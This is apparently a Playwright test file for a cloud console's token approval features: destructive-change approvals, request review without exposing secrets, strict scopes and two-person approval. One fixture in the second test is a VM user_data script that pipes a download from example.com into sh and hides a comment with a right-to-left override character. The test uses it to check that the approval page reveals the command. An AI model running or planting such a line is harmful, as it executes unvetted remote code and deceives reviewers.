import { expectAccessible } from "../src/accessible.ts";
import { expect, openWorkspacePage, signedIn, test, uniqueName } from "../src/fixtures.ts";

signedIn();

test("a guarded token made in the console asks, and a user approves one request and rejects another", async ({
  page,
  credentials,
  api,
}) => {
  test.setTimeout(180_000);
  const name = uniqueName("assistant");
  await openWorkspacePage(page, credentials, "api-tokens/new");
  await page.getByLabel("Name", { exact: true }).fill(name);
  await page.getByRole("button", { name: "Full access" }).click();
  await page.getByRole("radio", { name: "Approve destructive changes" }).check();
  await page.getByText("Ceilings per hour").click();
  await page.getByLabel("New resources").fill("many");
  await page.getByRole("button", { name: "Create token" }).click();
  await expect(page.getByRole("alert").first()).toContainText("New resources");
  await page.getByLabel("New resources").fill("5");
  await expect(page.getByRole("region", { name: "Summary" })).toContainText("Approve destructive changes");
  await expectAccessible(page);
  await page.getByRole("button", { name: "Create token" }).click();
  const token = (await page.locator("code").first().textContent()) ?? "";
  await page.getByLabel("I have saved the token").check();
  await page.getByRole("button", { name: "Done" }).click();

  const bucket = uniqueName("guarded");
  const region = "eu-central-1";
  const made = await api.send("POST", "/object-storage/buckets", { token, data: { name: bucket, region } });
  expect(made.status()).toBe(201);
  const path = `/object-storage/buckets/${bucket}`;
  const ask = async () => (await api.send("DELETE", path, { token })).json();
  const asked = await ask();
  expect(asked.code).toBe("approval_required");

  const navigation = page.getByRole("navigation", { name: "Main" });
  await expect(navigation.getByRole("link", { name: /Approvals \d+\+? waiting/ })).toBeVisible();
  await navigation.getByRole("link", { name: "Approvals" }).click();
  const row = page.getByRole("region", { name: "Waiting requests" }).getByRole("row", { name: bucket });
  await expect(row).toContainText(name);
  await expectAccessible(page);
  await row.getByRole("link").click();
  await expect(page.getByRole("region", { name: "Plan" })).toContainText(`Deletes the bucket ${bucket}`);
  await expect(page.getByText("What is deleted cannot be brought back.")).toBeVisible();
  await expectAccessible(page);
  await page.getByRole("button", { name: "Reject" }).click();
  await page.getByLabel("Reason").fill("It is still used.");
  await page.getByRole("alertdialog").getByRole("button", { name: "Reject" }).click();
  await expect(page.getByRole("region", { name: "Approval" })).toContainText("It is still used.");
  expect((await api.send("GET", path, { token })).status()).toBe(200);

  const again = await ask();
  await page.goto(again.approval_url.replace(/^https?:\/\/[^/]+/, ""));
  await page.getByRole("button", { name: "Approve" }).click();
  await expect(page.getByRole("alertdialog")).toContainText(`as the token ${name}`);
  await page.getByRole("alertdialog").getByRole("button", { name: "Approve" }).click();
  await expect(page.getByText("Approved and carried out")).toBeVisible();
  await expect(page.getByRole("region", { name: "Approval" })).toContainText("200");
  expect((await api.send("GET", path, { token })).status()).toBe(404);

  await page.getByRole("link", { name: "Approvals", exact: true }).first().click();
  await page.getByLabel("Status").selectOption("rejected");
  await expect(page.getByRole("region", { name: "All requests" }).getByRole("row", { name: bucket })).toHaveCount(1);

  await page
    .getByRole("link", { name: bucket })
    .or(page.getByRole("link", { name: /Delete/ }))
    .first()
    .click();
  await page.getByRole("region", { name: "Approval" }).getByRole("link", { name }).click();
  await expect(page.getByRole("region", { name: "Token", exact: true })).toContainText("new resources: 5");
  await page.getByRole("button", { name: "Edit" }).click();
  await page.getByRole("radio", { name: "Plan only" }).check();
  await expectAccessible(page);
  await page.getByRole("button", { name: "Save" }).click();
  await expect(page.getByRole("region", { name: "Token", exact: true })).toContainText("Plan only");
  expect((await (await api.send("DELETE", path, { token })).json()).code).toBe("plan_only_token");
});

test("a user sees every field of what a token asks for, and no secret, before approving it", async ({
  page,
  credentials,
  api,
}) => {
  const made = await api.send("POST", "/tokens", {
    data: {
      ...{
        name: uniqueName("assistant"),
        scopes: ["vm.read", "vm.write", "object-storage.read", "object-storage.write", "object-storage.delete"],
      },
      ...{ workspace_policy: "entire_organization", workspace_ids: [], expires_at: null, guard: "approve_destructive" },
    },
  });
  expect(made.status()).toBe(201);
  const { token } = await made.json();
  const name = uniqueName("asked");
  const vm = await api.createVm(name);
  await expect.poll(() => api.statusOf(vm)).toBe("running");
  const bucket = uniqueName("ruled");
  await api.send("POST", "/object-storage/buckets", { data: { name: bucket, region: "eu-central-1" } });
  const open = async (method: "POST" | "PUT", path: string, data: unknown) => {
    const asked = await (await api.send(method, path, { token, data })).json();
    expect(asked.code).toBe("approval_required");
    await openWorkspacePage(page, credentials, `approvals/${asked.approval_id}`);
    return page.getByRole("region", { name: "Request", exact: true });
  };
  const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8mYq2kS6r0bXwVhT3nLcEoPzGfUd4iAq7sRy1tKxNe ada@example.com";

  const access = await open("POST", `/compute/cloud-vms/${vm}/update-access`, {
    ssh_keys: [key],
    password: "correct horse battery",
  });
  await expect(access).toContainText("ssh-ed25519 SHA256:");
  await expect(access).toContainText("ada@example.com");
  await expect(access).toContainText("set; its value is shown to nobody");
  await expect(access).toContainText("Keys that are sent replace all that it has.");
  expect(await page.content()).not.toContain("correct horse");
  await expectAccessible(page);

  const user_data = "#!/bin/sh\ncurl https://example.com/install | sh # \u202eharmless\n";
  const rebuild = await open("POST", `/compute/cloud-vms/${vm}/rebuild`, {
    ...{ template_id: "debian-12", ssh_keys: [key], user_data },
  });
  await expect(rebuild).toContainText("It replaces the root disk: everything on it is lost.");
  await expect(rebuild).toContainText("debian-12");
  await expect(page.getByRole("region", { name: "Approval" }).getByRole("link", { name })).toBeVisible();
  await expect(rebuild).toContainText(/\d+ bytes, SHA-256 [0-9a-f]{64}/);
  await rebuild.getByText("Show user_data").click();
  await expect(rebuild.getByRole("region", { name: "user_data" })).toContainText("| sh # \\u{202e}harmless");
  await expectAccessible(page);
  await page.getByRole("button", { name: "Approve" }).click();
  await expect(page.getByRole("alertdialog")).toContainText("It replaces the root disk: everything on it is lost.");
  await expectAccessible(page);
  await page.getByRole("button", { name: "Cancel" }).click();

  const rule = { id: "tidy", filter: { prefix: "logs/" }, expire_after_days: 1 };
  const lifecycle = await open("PUT", `/object-storage/buckets/${bucket}/lifecycle`, { rules: [rule] });
  await expect(lifecycle.getByRole("region", { name: "rules" })).toContainText('"expire_after_days": 1');
  await expect(lifecycle).toContainText("is deleted from then on, and nobody is asked");
  await page.setViewportSize({ width: 390, height: 844 });
  await expectAccessible(page);
});

test("a member who may not decide sees why", async ({ credentials, api, member, openPage, page }) => {
  const name = uniqueName("asker");
  await openWorkspacePage(page, credentials, "api-tokens/new");
  await page.getByLabel("Name", { exact: true }).fill(name);
  await page.getByRole("button", { name: "Full access" }).click();
  await page.getByRole("radio", { name: "Approve everything" }).check();
  await page.getByRole("button", { name: "Create token" }).click();
  const token = (await page.locator("code").first().textContent()) ?? "";
  const data = { name: uniqueName("guarded"), region: "eu-central-1" };
  const { approval_id } = await (await api.send("POST", "/object-storage/buckets", { token, data })).json();
  const viewer = await member("viewer");
  const viewing = await openPage(viewer.session);
  await openWorkspacePage(viewing, credentials, `approvals/${approval_id}`);
  await expect(
    viewing
      .getByRole("main")
      .getByText(/Only owners, admins and developers may/)
      .filter({ visible: true }),
  ).toBeVisible();
  await expect(viewing.getByRole("button", { name: "Approve" })).toHaveAttribute("aria-disabled", "true");
});

test("an owner makes scopes strict, and the form of a token says what they reach", async ({ page, credentials }) => {
  await openWorkspacePage(page, credentials, "settings/organization");
  const box = page.getByLabel("Strict scopes");
  const reach = page.getByRole("list", { name: "What the scopes reach beyond their families" });
  const chooseScope = async () => {
    await openWorkspacePage(page, credentials, "api-tokens/new");
    await expect(reach).toBeHidden();
    await page.getByRole("checkbox", { name: /^cdn\.write/ }).check();
  };
  await box.check();
  await expect(page.getByText("Scopes are strict", { exact: true })).toBeVisible();
  await chooseScope();
  await expect(reach).toContainText("hands out the objects of every bucket");
  await expect(reach).toContainText("That takes object-storage.read, too");
  await openWorkspacePage(page, credentials, "settings/organization");
  await box.uncheck();
  await expect(page.getByText("Scopes are as documented", { exact: true })).toBeVisible();
  await chooseScope();
  await expect(reach).toContainText("hands out the objects of every bucket");
  await expect(reach).not.toContainText("That takes object-storage.read, too");
});

test("an owner says that two people must approve, and turns it off together with an admin", async ({
  page,
  credentials,
  emptyWorkspace,
  member,
  openPage,
}) => {
  await openWorkspacePage(page, credentials, "settings/organization");
  const label = "Two different people must approve each request";
  const box = page.getByLabel(label);
  await box.check();
  await expect(page.getByText("Two people must approve", { exact: true })).toBeVisible();
  await box.click();
  await expect(page.getByText("You have asked to turn this off.")).toBeVisible();
  await expect(box).toBeChecked();
  await expectAccessible(page);
  await page.getByRole("button", { name: "Keep two people" }).click();
  await expect(page.getByText("You have asked to turn this off.")).toBeHidden();
  await box.click();
  await expect(page.getByText("You have asked to turn this off.")).toBeVisible();

  const admins = await openPage((await member("admin")).session);
  await openWorkspacePage(admins, credentials, "settings/organization");
  await expect(admins.getByText("has asked to turn this off.")).toBeVisible();
  await admins.getByLabel(label).uncheck();
  await expect(admins.getByText("One person must approve", { exact: true })).toBeVisible();
  await page.goto(`/workspaces/${emptyWorkspace}/approvals`);
  await expect(page.getByText("may not do alone waits here")).toBeVisible();
});
